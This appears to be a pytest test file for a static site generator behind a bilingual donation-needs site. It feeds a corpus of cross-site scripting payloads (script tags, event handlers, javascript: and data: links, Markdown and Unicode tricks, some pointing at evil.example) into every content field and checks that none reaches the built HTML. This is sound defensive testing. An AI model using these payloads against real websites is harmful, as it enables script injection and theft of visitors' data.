"""Hostile content: no script, handler, dangerous address or raw HTML from content reaches a built page.

Every payload of our own corpus goes into every text field a reader sees (site.yaml,
items, testimonies and their translations, pages and theirs); the site is built in
French and English and every page is checked by one oracle against the theme's own
markup, collected from the same site built with harmless text.
"""

from __future__ import annotations

import base64
import html
import io
import json
import re
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image

from conftest import SAMIR_MD, SITE_YAML, TEMPLATES, TENT_YAML
from sitegen.build import Options, build
from sitegen.content.markup import ATTRIBUTES, TAGS
from sitegen.errors import ContentError
from support import text as visible_text

BASE_URL = "https://aide.example.org/"
SAFE_SCHEMES = ("http", "https", "mailto")
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "poster", "background", "cite", "data", "xlink:href", "srcset", "ping"}
)
SCRIPTS = ("/copy.js", "/search.js")  # the theme's own scripts
FORBIDDEN_TAGS = frozenset(
    {
        "iframe", "frame", "frameset", "style", "form", "input", "button", "textarea", "select", "svg", "math",
        "object", "embed", "applet", "base", "template", "noscript", "video", "audio", "track",
        "marquee", "portal", "xmp", "plaintext",
    }
)  # fmt: skip
RAW_TAGS = FORBIDDEN_TAGS | {"script", "meta", "link", "img", "details", "summary", "html", "head", "body", "title"}
_RAW_TAG = re.compile(r"<\s*/?\s*([a-z][a-z0-9:-]*)", re.IGNORECASE)
THEME_LINK_RELS = frozenset({"stylesheet", "icon", "canonical", "alternate"})
DATA_HTML = "data:text/html;base64," + base64.b64encode(b"<script>alert('don')</script>").decode()


@dataclass(frozen=True)
class Payload:
    """One hostile text, and what must never appear, lower-cased, in a page's source because of it."""

    name: str
    text: str
    danger: tuple[str, ...] = ()


# Our own corpus, written for this site: volunteers paste text from anywhere.
PAYLOADS = [
    # Plain tags.
    Payload("script", "<script>alert('tente')</script>", ("<script>alert",)),
    Payload("script-src-upper", "<SCRIPT SRC=//evil.example/don.js></SCRIPT>", ("<script src=//evil",)),
    Payload("img-onerror", "<img src=x onerror=alert('couverture')>", ("<img src=x",)),
    Payload("iframe", '<iframe src="https://evil.example/dons"></iframe>', ("<iframe",)),
    Payload("style", "<style>.help{display:none}</style>", ("<style>",)),
    Payload(
        "form",
        '<form action="https://evil.example/carte"><input name=carte><button>Donner</button></form>',
        ('<form action="https://evil', "<input name=carte", "<button>donner"),  # the search page has its own form
    ),
    Payload("svg-onload", "<svg onload=alert('duvet')><circle r=9 /></svg>", ("<svg",)),
    Payload("math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(4)>", ("<math", "<img src=x")),
    Payload("object", '<object data="https://evil.example/x.swf"></object>', ("<object",)),
    Payload("embed", '<embed src="https://evil.example/x.swf">', ("<embed",)),
    Payload("base", '<base href="https://evil.example/">', ("<base",)),
    Payload(
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        ('<meta http-equiv="refresh"',),
    ),
    Payload("link-stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>", ("<link rel=stylesheet",)),
    Payload(
        "details-ontoggle", "<details open ontoggle=alert('sac')><summary>Sac</summary></details>", ("<details open",)
    ),
    Payload("media-onerror", "<video><source onerror=alert(6)></video><audio src=x onerror=alert(7)>", ("<video",)),
    Payload("body-onload", "<body onload=alert('camp')>", ("<body onload",)),
    Payload("marquee", "<marquee onstart=alert(9)>Aidez-nous</marquee>", ("<marquee",)),
    Payload("template", "<template><script>alert(10)</script></template>", ("<template",)),
    Payload("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(11)>">', ("<noscript", "<img src=x")),
    Payload("raw-anchor", '<a href="javascript:alert(12)">Faire un don</a>', ('<a href="javascript',)),
    Payload("style-attribute", '<p style="background:url(javascript:alert(22))">fond</p>', ("<p style",)),
    # Attribute and element breakouts.
    Payload("double-quote-breakout", '"><script>alert(13)</script>', ('"><script',)),
    Payload("single-quote-breakout", "'><img src=x onerror=alert(14)>", ("'><img",)),
    Payload("handler-in-double-quotes", '" onmouseover="alert(15)" x="'),
    Payload("handler-in-single-quotes", "' onfocus='alert(16)' autofocus='"),
    Payload("close-title", "</title><script>alert(17)</script>", ("</title><script",)),
    Payload("close-textarea", "</textarea><script>alert(18)</script>", ("</textarea><script",)),
    Payload("close-cdata", "]]><script>alert(19)</script>", ("]]><script",)),
    Payload("close-comment", "--><script>alert(20)</script>", ("--><script",)),
    Payload("open-comment", '<!--<img src="--><img src=x onerror=alert(21)>', ("<!--", "<img src=x")),
    Payload(
        "entities",
        "&lt;script&gt;alert(23)&lt;/script&gt; &#60;img src=x onerror=alert(23)&#62;",
        ("<script>alert", "<img src=x"),
    ),
    # Markdown: links, images, references, titles, attribute lists.
    Payload("md-javascript", "[Donner](javascript:alert(24))", ('href="javascript',)),
    Payload("md-mixed-case", "[Donner](JaVaScRiPt:alert(25))", ('href="javascript',)),
    Payload("md-tab-in-scheme", "[Donner](java\tscript:alert(26))", ('href="java\tscript',)),
    Payload("md-entity-tab", "[Donner](java&#x09;script:alert(27))", ("&#x09;script",)),
    Payload("md-decimal-entity", "[Donner](&#106;avascript:alert(28))", ("&#106;avascript",)),
    Payload("md-hex-entity", "[Donner](&#x6A;avascript:alert(29))", ("&#x6a;avascript",)),
    Payload("md-percent-encoded", "[Donner](javascript%3Aalert(30))"),
    Payload("md-leading-space", "[Donner](  javascript:alert(31)) [Sac]( \tjavascript:alert(31))"),
    Payload("md-vbscript", "[Donner](vbscript:msgbox(32))", ('href="vbscript',)),
    Payload("md-data-html", f"[Donner]({DATA_HTML})", ('href="data:',)),
    Payload("md-data-svg-image", "![carte](data:image/svg+xml,<svg onload=alert(33)>)", ('src="data:', "<svg")),
    Payload("md-reference", "Voir [la tente][1].\n\n[1]: javascript:alert(34)", ('href="javascript',)),
    Payload("md-reference-title", '[x][d]\n\n[d]: https://e.org/ "t" onmouseover="alert(35)"', ('" onmouseover',)),
    Payload("md-autolink", "<javascript:alert(36)> <vbscript:msgbox(36)>", ('href="javascript', 'href="vbscript')),
    Payload("md-autolink-quote", '<https://e.org/" onclick="alert(37)>', ('href="https://e.org/" onclick',)),
    Payload("md-image", "![Une tente](javascript:alert(38))", ('<img src="javascript',)),
    Payload("md-image-alt-breakout", '![x" onerror="alert(39)](https://e.org/a.png)', ('" onerror',)),
    Payload("md-title-breakout", '[x](https://e.org "t\\" onmouseover=\\"alert(40)")', ('" onmouseover',)),
    Payload("md-attr-list-paragraph", 'Un paragraphe.\n{: onclick="alert(41)" }', ("<p onclick",)),
    Payload("md-attr-list-heading", "## Un titre {onclick=alert(42)}\n\nTexte.", ("<h2 onclick",)),
    Payload("md-html-comment", "<!-- note interne --> texte <!-- <script>alert(43)</script> -->", ("<!--",)),
    Payload("md-javascript-comment-trick", "[x](javascript://%0Aalert(44))", ('href="javascript',)),
    # Template and format syntax: shown as written, never evaluated.
    Payload("jinja-expression", "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>", ("<%=",)),
    Payload("jinja-statement", "{% for x in range(3) %}boucle{% endfor %} {# note #}"),
    Payload("format-fields", "{0} {site} %s %(author)s {author.__class__}"),
    # Unicode tricks.
    Payload("fullwidth", "\uff1cscript\uff1ealert(45)\uff1c/script\uff1e", ("<script>alert",)),
    Payload("right-to-left-override", "\u202egnp.tnet <script>alert(46)</script>", ("<script>",)),
    Payload(
        "zero-width",
        "<scr\u200bipt>alert(47)</scr\u200bipt> [z](java\u200bscript:alert(47)) <\u200dimg src=x onerror=alert(47)>",
        ("<script>alert", "<img src=x"),
    ),
    Payload("bom-and-joiners", "\ufeff<\u2060script>alert(48)</script>", ("<script>",)),
    Payload("percent-encoded-tags", "%3Cscript%3Ealert(49)%3C/script%3E"),
]

TEMPLATE_CASES = [
    # (payload name, text that must show as written, text that would show if it had been evaluated)
    ("jinja-expression", "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>", "49"),
    ("jinja-statement", "{% for x in range(3) %}boucle{% endfor %} {# note #}", "boucleboucle"),
    ("format-fields", "{0} {site} %s %(author)s {author.__class__}", "<class"),
]


# The hostile site: one payload (or one marker per field) in every reader-visible text field.


def yaml_string(value: str) -> str:
    """Return a YAML double-quoted scalar holding exactly `value` (JSON strings are YAML)."""
    return json.dumps(value, ensure_ascii=False)


def picture() -> bytes:
    """Return a small PNG for item pictures and testimony photos."""
    out = io.BytesIO()
    Image.new("RGB", (12, 8), (200, 120, 40)).save(out, "PNG")
    return out.getvalue()


def hostile_files(say: Callable[[str], str]) -> dict[str, str | bytes]:
    """Return a site whose every reader-visible text field holds `say(field)`, in French and English.

    Some fields are plain strings (shown as a fallback on English pages), others
    `{fr, en}` mappings, so that both paths of the templates are exercised.
    """

    def one(field: str) -> str:
        return yaml_string(say(field))

    def both(field: str) -> str:
        return f"{{fr: {one(field + '.fr')}, en: {one(field + '.en')}}}"

    def front(*lines: str, body: str) -> str:
        return "---\n" + "".join(line + "\n" for line in lines) + "---\n" + say(body) + "\n"

    site = f"""\
title: {both("site.title")}
description: {one("site.description")}
base_url: {BASE_URL}
languages: [fr, en]
currency: EUR
organisation:
  name: {one("site.organisation.name")}
  url: https://association.example.org/
  shipping_address: {one("site.organisation.shipping_address")}
  dropoff: {both("site.organisation.dropoff")}
donate:
  url: https://dons.example.org/
  label: {one("site.donate.label")}
categories:
  shelter: {both("site.categories.shelter")}
  hygiene: {one("site.categories.hygiene")}
"""
    tent = f"""\
name: {both("tente.name")}
category: shelter
urgency: urgent
updated: 2026-11-20
quantity: {{needed: 120, received: 45}}
price: 39.90
summary: {one("tente.summary")}
description: {both("tente.description")}
image: {{src: tent.png, alt: {both("tente.image.alt")}}}
buy:
  - {{label: {one("tente.buy[1].label")}, url: "https://shop.example.com/tent"}}
  - {{label: {both("tente.buy[2].label")}, url: "https://other.example.com/tent"}}
"""
    bag = f"""\
name: {one("sac.name")}
category: hygiene
status: enough
summary: {both("sac.summary")}
description: {one("sac.description")}
image: {{src: tent.png, alt: {one("sac.image.alt")}}}
"""
    return {
        "site.yaml": site,
        "items/tente.yaml": tent,
        "items/sac.yaml": bag,
        "testimonies/samir.md": front(
            f"author: {one('samir.author')}",
            "items: [tente, sac]",
            "date: 2020-12",
            f"place: {one('samir.place')}",
            "consent: {date: 2021-01-15}",
            f"quote: {one('samir.quote')}",
            f"photo: {{src: tent.png, alt: {both('samir.photo.alt')}}}",
            body="samir.body",
        ),
        "testimonies/samir.en.md": front(
            f"quote: {one('samir.en.quote')}",
            f"translated_by: {one('samir.en.translated_by')}",
            body="samir.en.body",
        ),
        "testimonies/amina.md": front(
            f"author: {one('amina.author')}",
            "items: [tente]",
            "date: 2021",
            f"place: {both('amina.place')}",
            "lang: ar",
            "consent: {date: 2021-01-15}",
            f"photo: {{src: tent.png, alt: {one('amina.photo.alt')}}}",
            body="amina.body",
        ),
        "pages/about.md": front(f"title: {one('about.title')}", "menu: 1", body="about.body"),
        "pages/about.en.md": front(f"title: {one('about.en.title')}", body="about.en.body"),
        "pages/help.md": front(f"title: {both('help.title')}", "menu: 2", body="help.body"),
        "images/tent.png": picture(),
    }


def marker(field: str) -> str:
    """Return the harmless text the theme build puts in a field: 'marqueur-site-title-fr'."""
    return "marqueur-" + re.sub(r"[^a-z0-9]+", "-", field.lower()).strip("-")


def build_files(root: Path, files: dict[str, str | bytes]) -> dict[str, str]:
    """Write a site under root, build it, and return every built HTML page by its path."""
    content, output = root / "content", root / "output"
    for name, data in files.items():  # written as is: write_files would dedent the payloads
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data, encoding="utf-8")
    build(Options(content, TEMPLATES, output))
    return {page.relative_to(output).as_posix(): page.read_text(encoding="utf-8") for page in output.rglob("*.html")}


# The oracle.


@dataclass(frozen=True)
class Element:
    """A start tag as the parser saw it."""

    tag: str
    attrs: tuple[tuple[str, str], ...]

    def get(self, name: str) -> str | None:
        """Return an attribute's value, or None."""
        return next((value for key, value in self.attrs if key == name), None)


class _Markup(HTMLParser):
    """Collect every element, script text, comment and declaration of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.script_text: list[str] = []
        self.comments: list[str] = []
        self.declarations: list[str] = []
        self._in_script = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Record the element."""
        self.elements.append(Element(tag, tuple((name, value or "") for name, value in attrs)))
        if tag == "script":
            self._in_script += 1

    def handle_endtag(self, tag: str) -> None:
        """Leave a script."""
        if tag == "script":
            self._in_script = max(0, self._in_script - 1)

    def handle_data(self, data: str) -> None:
        """Keep the text of scripts."""
        if self._in_script and data.strip():
            self.script_text.append(data)

    def handle_comment(self, data: str) -> None:
        """Record a comment."""
        self.comments.append(data)

    def handle_pi(self, data: str) -> None:
        """Record a processing instruction."""
        self.declarations.append(data)

    def unknown_decl(self, data: str) -> None:
        """Record a CDATA section or other declaration."""
        self.declarations.append(data)


def read_markup(source: str) -> _Markup:
    """Parse a page's source."""
    parser = _Markup()
    parser.feed(source)
    parser.close()
    return parser


def raw_tag_counts(source: str) -> Counter[str]:
    """Count, in the raw source, every `<tag` or `</tag` of a tag worth watching."""
    return Counter(name.lower() for name in _RAW_TAG.findall(source) if name.lower() in RAW_TAGS)


@dataclass(frozen=True)
class Theme:
    """The markup the theme itself writes, from the hostile site's shape built with harmless text."""

    pages: dict[str, str]
    tags: frozenset[str]
    attributes: dict[str, frozenset[str]]
    counts: dict[str, Counter[str]]  # page -> tag -> how many
    raw_counts: dict[str, Counter[str]]
    comments: dict[str, int]
    scripts: frozenset[tuple[tuple[str, str], ...]]
    equivs: frozenset[tuple[str, str]]  # (http-equiv, content) of the theme's own meta tags


def read_theme(pages: dict[str, str]) -> Theme:
    """Collect the theme's tags, attributes, scripts and meta http-equiv from harmless pages."""
    parsed = {path: read_markup(source) for path, source in pages.items()}
    elements = [element for page in parsed.values() for element in page.elements]
    attributes: dict[str, set[str]] = {}
    for element in elements:
        attributes.setdefault(element.tag, set()).update(name for name, _ in element.attrs)
    return Theme(
        pages=pages,
        tags=frozenset(element.tag for element in elements),
        attributes={tag: frozenset(names) for tag, names in attributes.items()},
        counts={path: Counter(e.tag for e in page.elements) for path, page in parsed.items()},
        raw_counts={path: raw_tag_counts(source) for path, source in pages.items()},
        comments={path: len(page.comments) for path, page in parsed.items()},
        scripts=frozenset(e.attrs for e in elements if e.tag == "script"),
        equivs=frozenset(
            ((e.get("http-equiv") or "").lower(), e.get("content") or "") for e in elements if e.get("http-equiv")
        ),
    )


def url_problem(value: str) -> str | None:
    """Return why an address is unsafe in a page, or None: only http(s), mailto and relative addresses pass."""
    forms = set()
    for decoded in (value, html.unescape(value)):  # the parser decoded once; a second decoding is the worst case
        kept = [c for c in decoded.lower() if unicodedata.category(c) != "Cc" or c.isspace()]  # controls out
        trimmed = "".join(kept).strip()
        squeezed = "".join(c for c in kept if not c.isspace())  # and every whitespace inside too
        forms |= {trimmed, squeezed}
    for form in sorted(forms):
        if form.startswith(BAD_SCHEMES):
            return f"a {form.split(':')[0]}: address ({value!r})"
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", form)
        if scheme and scheme.group(1) not in SAFE_SCHEMES:
            return f"an address with the scheme {scheme.group(1)!r} ({value!r})"
    return None


def element_problems(element: Element, theme: Theme) -> Iterator[str]:
    """Yield what is wrong with one element of a built page."""
    tag = element.tag
    if tag not in theme.tags | TAGS:
        yield f"<{tag}> is neither a theme tag nor a Markdown tag"
    if tag in FORBIDDEN_TAGS - theme.tags:  # the search page's own form; counts per page catch injected ones
        yield f"<{tag}> reached the page"
    if tag == "source" and (element.get("type") != "image/webp" or element.get("src") is not None):
        yield f"a <source> that is not the theme's WebP picture source: {element.attrs}"
    if tag == "script" and (element.attrs not in theme.scripts or not (element.get("src") or "").endswith(SCRIPTS)):
        yield f"a <script> that is not one of the theme's: {element.attrs}"
    if tag == "meta" and element.get("http-equiv") is not None:
        pair = ((element.get("http-equiv") or "").lower(), element.get("content") or "")
        if pair not in theme.equivs:
            yield f"a <meta http-equiv> that is not the theme's: {element.attrs}"
    if tag == "link":
        rel, href = element.get("rel") or "", element.get("href") or ""
        if rel not in THEME_LINK_RELS or not (href.startswith("/") or href.startswith(BASE_URL)):
            yield f"a <link> that is not the theme's: {element.attrs}"
    allowed = theme.attributes.get(tag, frozenset()) | ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
    for name, value in element.attrs:
        if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
            yield f"<{tag}> has the attribute {name}={value!r}"
        elif name not in allowed:
            yield f"<{tag}> has the attribute {name}, which neither the theme nor Markdown writes"
        if name in URL_ATTRIBUTES:
            addresses = [c.strip().split(" ")[0] for c in (value or "").split(",")] if name == "srcset" else [value]
            for address in addresses:
                problem = url_problem(address or "")
                if problem:
                    yield f"<{tag} {name}> holds {problem}"
    href = (element.get("href") or "").strip().lower()
    if tag == "a" and href.startswith(("http://", "https://", "//")):
        rel = set((element.get("rel") or "").split())
        if not {"noopener", "noreferrer"} <= rel:
            yield f"the outbound link {element.get('href')!r} lacks rel noopener noreferrer"


def page_problems(path: str, source: str, theme: Theme, danger: tuple[str, ...] = ()) -> list[str]:
    """Return every way a built page breaks the oracle, each prefixed with the page."""
    if path not in theme.pages:
        return [f"{path}: a page the harmless build does not have"]
    page = read_markup(source)
    problems = [problem for element in page.elements for problem in element_problems(element, theme)]
    counts = Counter(element.tag for element in page.elements)
    for tag, count in sorted(counts.items()):
        if tag not in TAGS and count > theme.counts[path][tag]:
            problems.append(f"{count} <{tag}> where the theme writes {theme.counts[path][tag]}")
    for tag, count in sorted(raw_tag_counts(source).items()):
        if count > theme.raw_counts[path][tag]:
            problems.append(
                f"the source spells <{tag} {count} times where the theme does {theme.raw_counts[path][tag]}"
            )
    if page.script_text:
        problems.append(f"inline script text: {page.script_text!r}")
    if len(page.comments) > theme.comments[path]:
        problems.append(f"HTML comments from content: {page.comments!r}")
    if page.declarations:
        problems.append(f"declarations or CDATA: {page.declarations!r}")
    lowered = source.lower()
    problems += [f"the source holds {part!r} unescaped" for part in danger if part.lower() in lowered]
    return [f"{path}: {problem}" for problem in problems]


# Fixtures: the theme's own markup, and one build per payload, each made once.


@pytest.fixture(scope="module")
def theme(tmp_path_factory: pytest.TempPathFactory) -> Theme:
    """Build the hostile site's shape with a harmless marker in each field; read the theme's markup."""
    return read_theme(build_files(tmp_path_factory.mktemp("harmless"), hostile_files(marker)))


@dataclass(frozen=True)
class Hostile:
    """A payload's build: its pages, and what the build refused when the payload was in every field."""

    pages: dict[str, str]  # every field, or, when that build was refused, every field but the Markdown ones
    refused: tuple[str, ...]  # the problems of the refused build, as printed
    unlocated: tuple[str, ...]  # those that name no Markdown text's file and line


def is_markdown(field: str) -> bool:
    """Return True for the fields written in Markdown: bodies and item descriptions."""
    return field.endswith("body") or field.startswith(("tente.description", "sac.description"))


def markdown_lines(files: dict[str, str | bytes]) -> dict[str, set[int]]:
    """Return, for each content file as messages name it, the lines that hold Markdown."""
    lines = {}
    for name, data in files.items():
        if isinstance(data, bytes):
            continue
        rows = data.splitlines()
        if name.endswith(".md"):
            body = rows.index("---", 1) + 2  # the first line after the front matter
            lines[f"content/{name}"] = set(range(body, len(rows) + 1))
        else:
            lines[f"content/{name}"] = {n for n, row in enumerate(rows, 1) if row.startswith("description:")}
    return lines


def build_hostile(root: Path, payload: Payload) -> Hostile:
    """Build with the payload in every field; if that is refused, again with it in the plain fields only.

    A Markdown text may be refused (a `javascript:` link, say) if the refusal names
    its file and line; a plain text field must take any text.
    """
    files = hostile_files(lambda field: payload.text)
    try:
        return Hostile(build_files(root / "every-field", files), (), ())
    except ContentError as error:
        lines = markdown_lines(files)
        refused = tuple(str(problem) for problem in error.problems)
        unlocated = tuple(str(p) for p in error.problems if p.line not in lines.get(p.path, ()) or not p.message)
    plain = hostile_files(lambda field: marker(field) if is_markdown(field) else payload.text)
    return Hostile(build_files(root / "plain-fields", plain), refused, unlocated)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Callable[[Payload], Hostile]:
    """Return a function that builds the hostile site of a payload, once per payload."""
    built: dict[str, Hostile] = {}

    def get(payload: Payload) -> Hostile:
        if payload.name not in built:
            built[payload.name] = build_hostile(tmp_path_factory.mktemp(payload.name), payload)
        return built[payload.name]

    return get


def by_name(name: str) -> Payload:
    """Return the payload of that name."""
    return next(payload for payload in PAYLOADS if payload.name == name)


def collapse(value: str) -> str:
    """Collapse runs of HTML whitespace to one space, as support.text does."""
    return re.sub(r"[ \t\r\n\f]+", " ", value).strip()


def visible(source: str, tmp: Path) -> str:
    """Return a page's visible text (support.text reads a file)."""
    page = tmp / "page.html"
    page.write_text(source, encoding="utf-8")
    return visible_text(page)


# The harmless build proves the coverage the payload builds rely on.

FIELDS = [
    "site.title.fr", "site.title.en", "site.description", "site.organisation.name",
    "site.organisation.shipping_address", "site.organisation.dropoff.fr", "site.organisation.dropoff.en",
    "site.donate.label", "site.categories.shelter.fr", "site.categories.shelter.en", "site.categories.hygiene",
    "tente.name.fr", "tente.name.en", "tente.summary", "tente.description.fr", "tente.description.en",
    "tente.image.alt.fr", "tente.image.alt.en", "tente.buy[1].label", "tente.buy[2].label.fr",
    "tente.buy[2].label.en", "sac.name", "sac.summary.fr", "sac.summary.en", "sac.description", "sac.image.alt",
    "samir.author", "samir.place", "samir.quote", "samir.photo.alt.fr", "samir.photo.alt.en", "samir.body",
    "samir.en.quote", "samir.en.translated_by", "samir.en.body", "amina.author", "amina.place.fr", "amina.place.en",
    "amina.photo.alt", "amina.body", "about.title", "about.body", "about.en.title", "about.en.body",
    "help.title.fr", "help.title.en", "help.body",
]  # fmt: skip


@pytest.mark.parametrize("field", FIELDS)
def test_every_hostile_field_is_shown_on_a_page_of_its_language(theme: Theme, field: str) -> None:
    english = field.endswith(".en") or ".en." in field
    pages = [html.unescape(source) for path, source in theme.pages.items() if path.startswith("en/") == english]
    assert any(marker(field) in source for source in pages), f"{field} is shown on no page"


def test_the_theme_markup_is_itself_clean(theme: Theme) -> None:
    problems = [problem for path, source in theme.pages.items() for problem in page_problems(path, source, theme)]
    assert problems == []
    assert {"index.html", "en/index.html", "en/testimonies/samir/index.html", "about/index.html"} <= set(theme.pages)
    assert not TAGS & {"script", "iframe", "style", "img", "form", "svg"}


# Every payload through every field.


@pytest.mark.parametrize("payload", PAYLOADS, ids=[p.name for p in PAYLOADS])
def test_no_payload_in_any_field_reaches_a_page_as_markup(
    hostile: Callable[[Payload], Hostile], theme: Theme, payload: Payload
) -> None:
    harmless = "".join(theme.pages.values()).lower()
    assert not [part for part in payload.danger if part.lower() in harmless]  # the theme never writes them
    built = hostile(payload)
    assert set(built.pages) == set(theme.pages)
    problems = [
        problem
        for path, source in built.pages.items()
        for problem in page_problems(path, source, theme, payload.danger)
    ]
    assert problems == []


def test_a_markdown_text_refused_for_a_payload_is_named_by_its_file_and_line(
    hostile: Callable[[Payload], Hostile],
) -> None:
    builds = {payload.name: hostile(payload) for payload in PAYLOADS}
    assert [row for built in builds.values() for row in built.unlocated] == []
    # only Markdown links and pictures may be refused; tags and breakouts in Markdown are shown as text
    assert [name for name, built in builds.items() if built.refused and not name.startswith("md-")] == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=[p.name for p in PAYLOADS])
def test_hostile_text_in_plain_fields_is_shown_exactly_as_written(
    hostile: Callable[[Payload], Hostile], payload: Payload, tmp_path: Path
) -> None:
    pages = hostile(payload).pages
    expected = collapse(payload.text.strip())
    # the site title and organisation (every page), the item name, the author and translator
    for path in ("index.html", "en/items/tente/index.html", "en/testimonies/samir/index.html"):
        assert expected in visible(pages[path], tmp_path), path


@pytest.mark.parametrize(("name", "literal", "evaluated"), TEMPLATE_CASES, ids=[c[0] for c in TEMPLATE_CASES])
def test_template_and_format_syntax_in_content_is_shown_literally_never_evaluated(
    hostile: Callable[[Payload], Hostile],
    theme: Theme,
    name: str,
    literal: str,
    evaluated: str,
    tmp_path: Path,
) -> None:
    assert not any(evaluated in visible(source, tmp_path) for source in theme.pages.values())
    built = hostile(by_name(name))
    assert built.refused == ()  # template syntax is ordinary text, in Markdown too
    texts = {path: visible(source, tmp_path) for path, source in built.pages.items()}
    assert [path for path, text in texts.items() if evaluated in text] == []
    for path in ("items/tente/index.html", "testimonies/samir/index.html", "en/testimonies/samir/index.html"):
        assert literal in texts[path], path  # in plain fields and in the Markdown body alike
    assert literal in texts["about/index.html"] and literal in texts["en/about/index.html"]


# NUL and other control characters: refused with a located message, or removed.


def nul_outcome(root: Path, files: dict[str, str | bytes], written: str) -> list[str]:
    """Build; return the pages holding a NUL, or, if refused, the problems that do not name a NUL's file and line."""
    holding = {
        f"content/{name}": {n for n, row in enumerate(data.splitlines(), 1) if written in row}
        for name, data in files.items()
        if isinstance(data, str) and written in data
    }
    try:
        pages = build_files(root, files)
    except ContentError as error:
        named = {problem.path for problem in error.problems}
        unclear = [str(p) for p in error.problems if p.line not in holding.get(p.path, ())]
        return unclear + [f"{path} holds a NUL that no problem names" for path in sorted(set(holding) - named)]
    return [f"{path} holds a NUL" for path, source in pages.items() if "\x00" in source]


def test_a_nul_escaped_in_a_yaml_text_field_is_refused_with_its_line_or_removed(tmp_path: Path) -> None:
    files = hostile_files(lambda field: "Tente" if field.endswith("body") else "Ten\x00te <scr\x00ipt>")
    assert nul_outcome(tmp_path, files, "\\u0000") == []


def test_a_control_character_in_any_field_or_text_is_refused_at_its_line(tmp_path: Path) -> None:
    files = hostile_files(lambda field: "[Donner](\x01javascript:alert(31)) ok\x07")
    with pytest.raises(ContentError) as caught:
        build_files(tmp_path, files)
    problems = caught.value.problems
    assert problems and all(p.line > 0 and ("U+0001" in p.message or "U+0007" in p.message) for p in problems)


def test_a_nul_in_a_markdown_body_is_refused_with_its_line_or_removed(tmp_path: Path) -> None:
    files = hostile_files(lambda field: "Ten\x00te <scr\x00ipt>" if field.endswith("body") else "Tente")
    assert nul_outcome(tmp_path, files, "\x00") == []


def test_a_raw_nul_in_yaml_is_refused_with_its_file_and_line(
    make_site: Callable[..., Path], options: Callable[..., Options]
) -> None:
    site = SITE_YAML.replace("base_url:", 'tagline: "Ten\x00te"\nbase_url:')
    samir = SAMIR_MD.replace("place: Calais", "place: Cal\x00ais")
    content = make_site({"site.yaml": site, "testimonies/samir.md": samir})
    with pytest.raises(ContentError) as caught:
        build(options(content))
    shown = [str(problem) for problem in caught.value.problems]
    assert any(row.startswith("content/site.yaml:3: ") and "not allowed" in row for row in shown), shown
    assert any(row.startswith("content/testimonies/samir.md:5: ") and "not allowed" in row for row in shown), shown
    assert not (content.parent / "output").exists()


def test_a_raw_nul_in_yaml_is_named_so_that_a_volunteer_can_find_it(
    make_site: Callable[..., Path], options: Callable[..., Options]
) -> None:
    content = make_site({"testimonies/samir.md": SAMIR_MD.replace("place: Calais", "place: Cal\x00ais")})
    with pytest.raises(ContentError) as caught:
        build(options(content))
    [problem] = caught.value.problems
    assert any(name in problem.message for name in ("NUL", "U+0000", "\\x00", "\\0")), problem.message


def test_an_unreadable_site_yaml_beside_a_testimony_translation_is_reported_not_a_crash(
    make_site: Callable[..., Path], options: Callable[..., Options]
) -> None:
    translation = '---\nquote: "It kept me dry."\n---\nThe tent kept me dry all winter.\n'
    content = make_site({"site.yaml": "title: [\n", "testimonies/samir.en.md": translation})
    with pytest.raises(ContentError) as caught:
        build(options(content))
    assert [problem.path for problem in caught.value.problems] == ["content/site.yaml"]


# Address fields take only absolute http(s) addresses, and say where one is not.

BAD_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    DATA_HTML,
    "data:image/svg+xml,<svg onload=alert(1)>",
    "/dons/",
    "boutique/tente",
    "//evil.example/",
    "https:evil.example",
    "http://",
]


def address_site(field: str, value: str) -> tuple[dict[str, str], str, int]:
    """Return site files with `value` in one address field, the file it is in and its line."""
    quoted = yaml_string(value)
    site, tent = SITE_YAML, TENT_YAML
    if field == "donate.url":
        site = site.replace("url: https://dons.example.org/", f"url: {quoted}")
    elif field == "organisation.url":
        site = site.replace("url: https://association.example.org/", f"url: {quoted}")
    elif field == "buy[1].url":
        tent = tent.replace('url: "https://shop.example.com/tent"', f"url: {quoted}")
    else:
        tent += f"donate: {quoted}\n"
    name = "site.yaml" if field in ("donate.url", "organisation.url") else "items/tente.yaml"
    text = site if name == "site.yaml" else tent
    line = next(n for n, row in enumerate(text.splitlines(), 1) if quoted in row)
    return {"site.yaml": site, "items/tente.yaml": tent}, name, line


ADDRESS_FIELDS = ["buy[1].url", "donate", "donate.url", "organisation.url"]


@pytest.mark.parametrize("field", ADDRESS_FIELDS)
@pytest.mark.parametrize("value", BAD_ADDRESSES, ids=range(len(BAD_ADDRESSES)))
def test_an_address_field_refuses_anything_but_an_absolute_web_address_saying_where(
    make_site: Callable[..., Path], options: Callable[..., Options], field: str, value: str
) -> None:
    files, name, line = address_site(field, value)
    content = make_site(files)
    with pytest.raises(ContentError) as caught:
        build(options(content))
    shown = [str(problem) for problem in caught.value.problems]
    assert any(row.startswith(f"content/{name}:{line}: '{field}' ") for row in shown), shown
    assert not (content.parent / "output").exists()


BREAKOUT_ADDRESSES = [
    'https://shop.example.com/tent"><script>alert(1)</script>',
    "https://shop.example.com/tent' onmouseover='alert(1)",
    'https://shop.example.com/tent" onmouseover="alert(1)',
